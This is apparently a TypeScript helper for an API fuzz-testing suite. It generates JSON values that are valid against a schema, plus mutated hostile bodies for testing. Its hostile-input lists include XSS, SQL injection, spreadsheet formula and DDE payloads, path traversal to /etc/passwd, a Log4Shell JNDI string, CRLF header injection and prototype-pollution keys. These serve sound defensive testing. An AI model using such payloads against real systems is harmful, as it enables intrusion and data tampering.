// Seeded values for the fuzz suite: valid values generated from a JSON Schema, and hostile ones.
// Everything draws from one PRNG, so a seed reproduces a whole run.
import { regexSamples } from '../../src/llm/builtin/regex-sample.ts';

export type Json = null | boolean | number | string | Json[] | { [k: string]: Json };
export type Schema = Record<string, any>;

/** mulberry32: small, fast, good enough to pick cases reproducibly. */
export class Rng {
  private s: number;
  constructor(seed: number) { this.s = seed >>> 0; }
  next(): number {
    let t = (this.s = (this.s + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(lo: number, hi: number): number { return lo + Math.floor(this.next() * (hi - lo + 1)); }
  pick<T>(xs: readonly T[]): T { return xs[Math.floor(this.next() * xs.length)]; }
  chance(p: number): boolean { return this.next() < p; }
}

/** Strings a hostile client sends. NUL and lone surrogates must get 422; the rest must not break anything. */
export const HOSTILE_STRINGS: readonly string[] = [
  '', ' ', 'a\u0000b', '\u0000', '\ud800', 'x\udfff', '\u202eevil\u202c', '\ufeffbom', 'e\u0301\u0301\u0301', '😀'.repeat(50),
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '# Title\n\n[link](javascript:alert(1))', "'; drop table runs; --",
  '=HYPERLINK("http://evil.example/","click")', '=cmd|\' /C calc\'!A0', '@SUM(1+1)', '+1-1', '../../../../etc/passwd', '%00', '%s%n%x',
  '{{7*7}}', '${jndi:ldap://x/a}', '\r\nX-Injected: 1', 'null', 'true', '0', '-1', '1e309', 'ａｂｃ', '\u0085\u2028\u2029', 'x'.repeat(10_001),
];

const FORMAT_SAMPLES: Record<string, () => string> = {
  'date-time': () => new Date(Date.UTC(2026, 0, 1)).toISOString(),
  date: () => '2026-01-01',
  email: () => 'fuzz@example.com',
  uri: () => 'http://127.0.0.1:9/fuzz',
  url: () => 'http://127.0.0.1:9/fuzz',
  uuid: () => '123e4567-e89b-42d3-a456-426614174000',
  binary: () => 'x',
};

function types(schema: Schema): string[] {
  if (Array.isArray(schema.type)) return schema.type;
  if (typeof schema.type === 'string') return [schema.type];
  if (schema.properties) return ['object'];
  if (schema.items) return ['array'];
  return ['string'];
}

/** A value valid against `schema` (best effort: the fuzz suite only needs most of them to be). */
export function validValue(schema: Schema | undefined, rng: Rng, depth = 0, key?: string): Json {
  if (!schema || typeof schema !== 'object') return rng.pick(['x', 1, true, null]);
  if ('const' in schema) return schema.const;
  if (Array.isArray(schema.enum)) return rng.pick(schema.enum);
  const branches = schema.anyOf ?? schema.oneOf;
  if (Array.isArray(branches)) return validValue(rng.pick(branches), rng, depth, key);
  if (Array.isArray(schema.allOf)) return validValue(Object.assign({}, ...schema.allOf), rng, depth, key);
  if ('default' in schema && rng.chance(0.2)) return schema.default;
  const t = rng.pick(types(schema).filter((x) => x !== 'null').length && rng.chance(0.9) ? types(schema).filter((x) => x !== 'null') : types(schema));
  switch (t) {
    case 'null': return null;
    case 'boolean': return rng.chance(0.5);
    case 'integer':
    case 'number': {
      const lo = schema.minimum ?? (schema.exclusiveMinimum !== undefined ? schema.exclusiveMinimum + 1 : 0);
      const hi = schema.maximum ?? (schema.exclusiveMaximum !== undefined ? schema.exclusiveMaximum - 1 : Math.max(lo, 100));
      const v = rng.pick([lo, hi, lo + Math.floor((hi - lo) / 2)]);
      return t === 'integer' ? Math.round(v) : v;
    }
    case 'string': {
      if (schema.format && FORMAT_SAMPLES[schema.format]) return FORMAT_SAMPLES[schema.format]();
      if (/url/i.test(`${key ?? ''}`)) return FORMAT_SAMPLES.uri();
      const min = schema.minLength ?? 0;
      const max = schema.maxLength ?? 40;
      if (typeof schema.pattern === 'string') {
        const samples = regexSamples(schema.pattern, min, max, rng.int(0, 3));
        if (samples.length) return samples[0];
      }
      const len = Math.min(max, Math.max(min, rng.int(min, Math.min(max, 24))));
      return 'fuzz value '.repeat(Math.ceil(len / 11) + 1).slice(0, len) || (min === 0 ? '' : 'x'.repeat(min));
    }
    case 'array': {
      const min = schema.minItems ?? 0;
      const n = Math.min(schema.maxItems ?? 3, Math.max(min, rng.int(min, min + 2)));
      const items = depth > 6 ? [] : Array.from({ length: n }, () => validValue(schema.items, rng, depth + 1));
      return schema.uniqueItems ? [...new Map(items.map((v) => [JSON.stringify(v), v])).values()] : items;
    }
    case 'object': {
      const out: Record<string, Json> = {};
      const props = (schema.properties ?? {}) as Record<string, Schema>;
      const required = new Set<string>(schema.required ?? []);
      for (const [k, s] of Object.entries(props)) {
        if (required.has(k) || (depth < 4 && rng.chance(0.5))) out[k] = validValue(s, rng, depth + 1, k);
      }
      return out;
    }
  }
  return null;
}

/** Paths of every node in a value (for picking a place to mutate). */
function paths(value: Json, at: (string | number)[] = [], out: (string | number)[][] = []): (string | number)[][] {
  out.push(at);
  if (Array.isArray(value)) value.forEach((v, i) => paths(v, [...at, i], out));
  else if (value && typeof value === 'object') for (const [k, v] of Object.entries(value)) paths(v, [...at, k], out);
  return out;
}

function setAt(root: Json, path: (string | number)[], v: Json | undefined): Json {
  if (path.length === 0) return v === undefined ? null : v;
  const copy: any = structuredClone(root);
  let cur = copy;
  for (const seg of path.slice(0, -1)) cur = cur[seg];
  const last = path[path.length - 1];
  if (v === undefined) { if (Array.isArray(cur)) cur.splice(last as number, 1); else delete cur[last]; }
  else cur[last] = v;
  return copy;
}

const WRONG_TYPES: Json[] = [0, -1, 1.5, 2 ** 53 + 1, -1e308, 1e308, true, false, null, [], {}, [1, 'a'], { a: 1 }, '', '1'];
const BOUNDARY_NUMBERS: Json[] = [0, -1, 1, 100, 101, 9999, 10_000, 1_800_000, 1_800_001, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, 1e21, -0, 0.000001];

/** A mutated JSON body as raw text, and what kind of mutation it is. */
export function mutateJson(valid: Json, schema: Schema | undefined, rng: Rng): { raw: string; kind: string } {
  const spots = paths(valid);
  const spot = rng.pick(spots);
  const kind = rng.pick(['wrong_type', 'boundary_number', 'hostile_string', 'huge_string', 'extra_property', 'missing_required', 'array_for_object', 'proto_key', 'deep_nesting', 'truncated', 'garbage', 'duplicate_keys', 'unicode_key', 'null_body', 'many_keys'] as const);
  switch (kind) {
    case 'wrong_type': return { kind, raw: JSON.stringify(setAt(valid, spot, rng.pick(WRONG_TYPES))) };
    case 'boundary_number': return { kind, raw: JSON.stringify(setAt(valid, spot, rng.pick(BOUNDARY_NUMBERS))) };
    case 'hostile_string': return { kind, raw: JSON.stringify(setAt(valid, spot, rng.pick(HOSTILE_STRINGS))) };
    case 'huge_string': return { kind, raw: JSON.stringify(setAt(valid, spot, 'A'.repeat(rng.pick([10_001, 20_001, 200_000])))) };
    case 'extra_property': return { kind, raw: JSON.stringify(valid && typeof valid === 'object' && !Array.isArray(valid) ? { ...valid, [rng.pick(['extra', 'admin', 'org_id', 'x'.repeat(300)])]: rng.pick(WRONG_TYPES) } : valid) };
    case 'missing_required': {
      const req: string[] = schema?.required ?? [];
      const copy = valid && typeof valid === 'object' && !Array.isArray(valid) ? { ...valid } : {};
      if (req.length) delete (copy as any)[rng.pick(req)];
      return { kind, raw: JSON.stringify(copy) };
    }
    case 'array_for_object': return { kind, raw: JSON.stringify(rng.chance(0.5) ? [valid] : setAt(valid, spot, [valid])) };
    case 'proto_key': return { kind, raw: rng.pick([`{"__proto__":{"isAdmin":true},${JSON.stringify(valid).slice(1)}`, `{"constructor":{"prototype":{"polluted":1}}}`, JSON.stringify({ ...(valid as object), prototype: { a: 1 } })]) };
    case 'deep_nesting': {
      const d = rng.pick([65, 200, 5000]);
      return { kind, raw: rng.chance(0.5) ? '['.repeat(d) + ']'.repeat(d) : JSON.stringify(setAt(valid, spot, null)).replace('null', '{"a":'.repeat(d) + '1' + '}'.repeat(d)) };
    }
    case 'truncated': { const s = JSON.stringify(valid); return { kind, raw: s.slice(0, rng.int(0, Math.max(0, s.length - 1))) }; }
    case 'garbage': return { kind, raw: rng.pick(['{', '}', 'nul', '{"a":1,}', "{'a':1}", 'NaN', '[1,2', '\u0000', '{"a":1}{"b":2}', '\ufeff{}', '{"a":"\\x41"}', '{"a":"\\ud800"}']) };
    case 'duplicate_keys': { const s = JSON.stringify(valid); return { kind, raw: s.startsWith('{') && s.length > 2 ? `{"prompt":1,${s.slice(1)}` : s }; }
    case 'unicode_key': return { kind, raw: JSON.stringify({ ...(valid as object), 'ｐｒｏｍｐｔ': 'x', 'a\u0000': 1 }) };
    case 'null_body': return { kind, raw: rng.pick(['null', '0', '"x"', 'true', '[]']) };
    case 'many_keys': return { kind, raw: `{${'"k":0,'.repeat(rng.pick([1000, 100_001]))}"k":0}` };
  }
}
